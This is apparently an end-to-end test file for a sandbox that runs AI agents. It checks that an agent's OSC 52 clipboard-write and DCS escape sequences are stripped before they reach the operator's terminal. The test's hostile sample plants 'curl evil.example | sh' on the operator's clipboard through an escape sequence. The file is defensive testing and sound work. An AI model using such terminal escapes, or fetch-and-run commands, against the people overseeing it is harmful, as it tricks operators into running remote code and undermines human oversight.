"""What a hostile agent prints reaches the operator without what a terminal would act on.

Inside a real bottle the agent prints an OSC 52 clipboard write and a DCS string
(XTGETTCAP) between plain text, a colour and a title. The operator's side receives the
text, the colour and the title, without the two strings: through `stream_output` into
buffers, and through `rbottle start` attached (`attach_tty`) to a tmux pane, where tmux
itself is the terminal and would put the clipboard write in its paste buffer.
"""

from __future__ import annotations

import base64
import os
import secrets
import shlex
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import docker
import pytest

from remotebottle.backend.docker.backend import DockerBottleBackend, LaunchOptions
from remotebottle.backend.spec import BottleSpec, Command
from tests.e2e.conftest import run_to_end
from tests.integration.conftest import require

pytestmark = pytest.mark.e2e

PASTED = "curl evil.example | sh"  # what the agent would have the operator paste
CLIPBOARD = base64.b64encode(PASTED.encode()).decode()
# A printf format: the two strings, then a colour and a title that must get through.
HOSTILE = (
    rf"before \033]52;c;{CLIPBOARD}\007middle \033P+q544e\033\\"
    r"\033[31mred\033[0m\033]0;agent-title\007 after\n"
)
SHOWN = b"before middle \x1b[31mred\x1b[0m\x1b]0;agent-title\x07 after\n"


def test_stream_output_drops_what_the_terminal_would_act_on(
    docker_client: docker.DockerClient, agent_image: str
) -> None:
    printf = f"printf {shlex.quote(HOSTILE)}"
    spec = BottleSpec(
        identity=f"e2e-{secrets.token_hex(3)[:5]}",
        agent="e2e",
        bottle="sealed",
        command=Command(mode="exec", argv=("sh", "-c", f"{printf}; {printf} >&2")),
        egress_enabled=False,
    )
    backend = DockerBottleBackend(docker_client)
    code, out, err = run_to_end(backend, backend.prepare(spec), LaunchOptions(tty=False))
    assert code == 0, err.getvalue()
    assert out.getvalue() == SHOWN
    assert err.getvalue() == SHOWN


class Pane:
    """A tmux server of our own (its own socket, no config) with one pane: the terminal."""

    def __init__(self, workdir: Path) -> None:
        self.socket = f"rbtest-term-{os.getpid()}-{secrets.token_hex(3)}"
        self.workdir = workdir
        self.raw = workdir / "pane.raw"

    def tmux(self, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["tmux", "-L", self.socket, "-f", "/dev/null", *args],
            capture_output=True,
            text=True,
            check=check,
            timeout=30,
        )

    def run(self, command: str) -> None:
        """Run `command` in a new pane that accepts OSC 52, its raw output kept in a file."""
        self.tmux("kill-session", "-t", "t", check=False)
        self.tmux("new-session", "-d", "-s", "t", "-x", "100", "-y", "30", "-c",
                  str(self.workdir), f"sleep 1; {command}; echo EXITED=$?; sleep 600")  # fmt: skip
        self.tmux("set-option", "-s", "set-clipboard", "on")
        self.raw.write_bytes(b"")
        self.tmux("pipe-pane", "-t", "t", f"cat >> {shlex.quote(str(self.raw))}")

    def wait_for(self, text: str, timeout: float = 240) -> str:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            screen = self.tmux("capture-pane", "-p", "-t", "t", "-S", "-100").stdout
            if text in screen:
                return screen
            time.sleep(0.2)
        raise AssertionError(f"{text!r} never appeared; screen:\n{screen}")

    def paste_buffers(self) -> str:
        return self.tmux("list-buffers", "-F", "#{buffer_sample}", check=False).stdout

    def kill(self) -> None:
        socket = self.tmux("display-message", "-p", "#{socket_path}", check=False).stdout
        self.tmux("kill-server", check=False)
        if socket.strip():
            Path(socket.strip()).unlink(missing_ok=True)


@pytest.fixture
def pane(write_manifest: Callable[..., Path], agent_image: str) -> Iterator[Pane]:
    if shutil.which("tmux") is None:
        require("tmux is not installed; run `make setup`")
    manifest = {
        "bottles": {"sealed": {"egress": {"enabled": False}}},
        "agents": {"shell": {"bottle": "sealed"}},
    }
    made = Pane(write_manifest(manifest).parent)
    yield made
    made.kill()


def test_the_attached_terminal_gets_the_text_but_not_the_clipboard_write(pane: Pane) -> None:
    printf = f"printf {shlex.quote(HOSTILE)}"
    # The control: printed straight into the pane, tmux takes the clipboard write.
    pane.run(printf)
    pane.wait_for("EXITED=0")
    assert PASTED in pane.paste_buffers()
    pane.tmux("delete-buffer")
    assert PASTED not in pane.paste_buffers()

    env = " ".join(
        f"{k}={shlex.quote(v)}"
        for k, v in os.environ.items()
        if k in ("HOME", "REMOTEBOTTLE_HOME", "REMOTEBOTTLE_EXTRA_CA_CERTS", "PATH", "DOCKER_HOST")
    )
    rbottle = f"{shlex.quote(sys.executable)} -m remotebottle"
    pane.run(f"env {env} {rbottle} start shell --yes -- {printf}")
    screen = pane.wait_for("EXITED=0")
    assert "before middle red after" in screen
    assert PASTED not in pane.paste_buffers()
    raw = pane.raw.read_bytes()
    assert b"\x1b]52" not in raw and b"\x1bP" not in raw
    # (The preflight before it shows the command, as text.)
    agent = raw.split(b"is up on local", 1)[1]
    assert agent.startswith(b"\r\nbefore middle \x1b[31mred\x1b[0m\x1b]0;agent-title\x07 after")
    assert CLIPBOARD.encode() not in agent and b"544e" not in agent
